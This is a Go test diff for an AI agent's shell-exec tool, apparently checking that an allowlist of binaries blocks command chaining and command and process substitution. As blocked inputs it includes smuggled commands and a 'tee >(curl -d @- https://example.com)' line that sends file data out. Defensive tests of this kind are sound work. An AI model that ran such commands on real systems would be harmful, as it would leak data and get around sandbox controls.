@@ -2,6 +2,7 @@ package tools
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -586,6 +587,108 @@ func TestShellTool_CustomAllowPatterns(t *testing.T) {
 	}
 }
 
+func TestShellTool_AllowedBinaries(t *testing.T) {
+	cfg := &config.Config{
+		Tools: config.ToolsConfig{
+			Exec: config.ExecConfig{
+				EnableDenyPatterns: true,
+				AllowRemote:        true,
+				AllowedBinaries:    []string{"echo", "tr"},
+			},
+		},
+	}
+
+	tool, err := NewExecToolWithConfig(t.TempDir(), true, cfg)
+	if err != nil {
+		t.Fatalf("unable to configure exec tool: %s", err)
+	}
+
+	result := tool.Execute(context.Background(), map[string]any{
+		"command": "LANG=C echo hello | tr a-z A-Z",
+	})
+	if result.IsError {
+		t.Fatalf("allowed binaries should run, got: %s", result.ForLLM)
+	}
+	if !strings.Contains(result.ForLLM, "HELLO") {
+		t.Errorf("expected piped output, got: %s", result.ForLLM)
+	}
+
+	blocked := map[string]string{
+		"ls":                   "ls",
+		"echo hi; ls":          "ls",
+		"echo hi && /bin/ls":   "/bin/ls",
+		"./echo hi":            "./echo",
+		"/tmp/echo hi":         "/tmp/echo",
+		"=x ls":                "=x",
+		"1A=b ls":              "1A=b",
+		"echo hi | ./tr a-z":   "./tr",
+		"A=1 B=2 /usr/bin/env": "/usr/bin/env",
+	}
+	for command, name := range blocked {
+		result = tool.Execute(context.Background(), map[string]any{"command": command})
+		want := fmt.Sprintf("binary %q not in allowed_binaries", name)
+		if !result.IsError || !strings.Contains(result.ForLLM, want) {
+			t.Errorf("%q should be blocked as %s, got: %s", command, name, result.ForLLM)
+		}
+	}
+
+}
+
+// TestShellTool_AllowedBinariesWithoutDenyPatterns checks that the allowlist
+// holds on its own, without the deny patterns that also catch substitutions.
+func TestShellTool_AllowedBinariesWithoutDenyPatterns(t *testing.T) {
+	cfg := &config.Config{
+		Tools: config.ToolsConfig{
+			Exec: config.ExecConfig{
+				EnableDenyPatterns: false,
+				AllowRemote:        true,
+				AllowedBinaries:    []string{"/bin/echo"},
+			},
+		},
+	}
+
+	tool, err := NewExecToolWithConfig(t.TempDir(), false, cfg)
+	if err != nil {
+		t.Fatalf("unable to configure exec tool: %s", err)
+	}
+
+	if msg := tool.guardCommand("/bin/echo hi", tool.workingDir); msg != "" {
+		t.Errorf("listed full path should run, got: %s", msg)
+	}
+	if msg := tool.guardCommand("echo hi", tool.workingDir); !strings.Contains(msg, "not in allowed_binaries") {
+		t.Errorf("bare name should need its own entry, got: %q", msg)
+	}
+
+	for _, command := range []string{"/bin/echo $(ls)", "/bin/echo `ls`", "/bin/echo \"$(id)\""} {
+		if msg := tool.guardCommand(command, tool.workingDir); !strings.Contains(msg, "command substitution") {
+			t.Errorf("%q should be blocked as a command substitution, got: %q", command, msg)
+		}
+	}
+}
+
+func TestShellTool_AllowedBinariesBlocksProcessSubstitution(t *testing.T) {
+	cfg := &config.Config{
+		Tools: config.ToolsConfig{
+			Exec: config.ExecConfig{
+				EnableDenyPatterns: false,
+				AllowRemote:        true,
+				AllowedBinaries:    []string{"cat", "tee"},
+			},
+		},
+	}
+
+	tool, err := NewExecToolWithConfig(t.TempDir(), false, cfg)
+	if err != nil {
+		t.Fatalf("unable to configure exec tool: %s", err)
+	}
+
+	for _, command := range []string{"cat <(curl https://example.com)", "cat file | tee >(curl -d @- https://example.com)"} {
+		if msg := tool.guardCommand(command, tool.workingDir); !strings.Contains(msg, "process substitution") {
+			t.Errorf("%q should be blocked as a process substitution, got: %q", command, msg)
+		}
+	}
+}
+
 // TestShellTool_URLsNotBlocked verifies that commands containing URLs are not
 // incorrectly blocked by the workspace restriction safety guard (issue #1203).
 func TestShellTool_URLsNotBlocked(t *testing.T) {